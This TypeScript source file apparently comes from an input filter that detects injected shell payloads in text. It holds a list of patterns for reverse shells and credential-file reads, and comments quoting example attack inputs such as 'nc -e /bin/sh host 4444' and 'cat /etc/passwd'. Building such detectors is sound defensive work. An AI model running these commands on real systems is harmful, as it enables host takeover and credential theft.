/**
 * Payload commands: what an injected command runs to prove it ran or to take the host over, as
 * opposed to the commands people name in a question (`npm ci`, `ls -la`, `ping -c 4 host`). An
 * identity probe (`whoami`, `id`, `uname -a`, `net user`, `systeminfo`), a read of the account or
 * Windows system files (`/etc/passwd`, `/etc/shadow`, `win.ini`), a reverse shell (`/dev/tcp/`,
 * `nc -e`, `bash -i`). Code quoted in prose that holds one
 * is not exempt: inside a backtick span or a fence it is a command substitution in a shell, and
 * after a separator it runs whatever sentence precedes it. Every test reads a bounded window of
 * the (lower-cased) value forwards, without regular expressions.
 */

/** Characters of a command line read for {@link PAYLOAD_TARGETS}, at most. */
const COMMAND_LINE_WINDOW = 80;

/** Characters read for separators by {@link payloadAfterSeparator}, at most. */
const SEPARATOR_WINDOW = 2048;

/** Targets and shapes that only a payload names (matched anywhere in the command line). */
const PAYLOAD_TARGETS = ['/etc/passwd', '/etc/shadow', 'win.ini', '/dev/tcp/', '/dev/udp/', 'nc -e ', 'ncat -e ', ' -e /bin/', 'bash -i', 'sh -i '] as const;

/** First characters of the {@link PAYLOAD_TARGETS}: other characters are passed without a comparison. */
const TARGET_FIRST = new Uint8Array(128);
for (const t of PAYLOAD_TARGETS) TARGET_FIRST[t.charCodeAt(0)] = 1;

/**
 * True when a payload command starts at `i` (after spaces) and its line, up to `to`, the next line
 * break or backtick, and at most {@link COMMAND_LINE_WINDOW} characters, is a payload: an identity
 * probe alone or with switches (`whoami`, `id;`, `uname -a`, `net user`), or any {@link PAYLOAD_TARGETS} target in the line
 * (which also ends at a separator; a target opening with a letter starts a word). A download piped into a shell
 * (`curl -sSL https://x/install.sh | sh`) is what install guides say, so it is no payload here.
 */
export function payloadCommandAt(s: string, i: number, to: number): boolean {
  while (i < to && s.charCodeAt(i) === 32) i++;
  let w = i;
  while (w < to && s.charCodeAt(w) >= 97 && s.charCodeAt(w) <= 122) w++;
  const len = w - i;
  const after = w < to ? s.charCodeAt(w) : 0;
  const ends = after === 0 || after === 59 || after === 124 || after === 38 || after === 10 || after === 96 || after === 41;
  if (len === 2 && s.startsWith('id', i) && ends) return true;
  if ((len === 6 && s.startsWith('whoami', i)) || (len === 10 && s.startsWith('systeminfo', i))) return ends || after === 32;
  if (len === 5 && s.startsWith('uname -a', i)) return true;
  if (len === 3 && (s.startsWith('net user', i) || s.startsWith('net localgroup', i))) return true;
  // the command line: to the next separator, line break or backtick (so the windows of a value's command positions do not overlap)
  const limit = Math.min(to, i + COMMAND_LINE_WINDOW);
  for (let k = i; k < limit; k++) {
    const c = s.charCodeAt(k);
    if (c === 10 || c === 96 || c === 59 || c === 124 || c === 38) break;
    if (TARGET_FIRST[c & 127] === 0) continue;
    // a target opening with a letter starts a word (`ssh -i` is no `sh -i`)
    if (c >= 97 && c <= 122 && k > i && s.charCodeAt(k - 1) >= 97 && s.charCodeAt(k - 1) <= 122) continue;
    for (const t of PAYLOAD_TARGETS) if (t.charCodeAt(0) === c && k + t.length <= limit && s.startsWith(t, k)) return true;
  }
  return false;
}

/**
 * True when a command separator (`;`, `|`, `&`, a run of them) in `s[from, to)` (at most
 * {@link SEPARATOR_WINDOW} characters read) is followed by a {@link payloadCommandAt} payload: `is it
 * safe to run ls && cat /etc/passwd`, `how do i run ls; id`, `ping x | nc -e /bin/sh host 4444`.
 * `ls -la | wc -l`, `mac & cheese`, `x; y` are not.
 */
export function payloadAfterSeparator(s: string, from: number, to: number): boolean {
  const end = Math.min(to, from + SEPARATOR_WINDOW);
  for (let k = from; k < end; k++) {
    const c = s.charCodeAt(k);
    if (c !== 59 && c !== 124 && c !== 38) continue;
    let j = k + 1;
    while (j < end && (s.charCodeAt(j) === 124 || s.charCodeAt(j) === 38 || s.charCodeAt(j) === 59)) j++;
    if (payloadCommandAt(s, j, end)) return true;
    k = j - 1;
  }
  return false;
}

/**
 * True when `s[from, to)` (quoted code: a span's or a fence's content, at most {@link SEPARATOR_WINDOW}
 * characters read) runs a payload at its start, at a line's start or after a separator.
 */
export function payloadIn(s: string, from: number, to: number): boolean {
  if (payloadCommandAt(s, from, to)) return true;
  const end = Math.min(to, from + SEPARATOR_WINDOW);
  for (let k = from; k < end; k++) if (s.charCodeAt(k) === 10 && payloadCommandAt(s, k + 1, end)) return true;
  return payloadAfterSeparator(s, from, end);
}
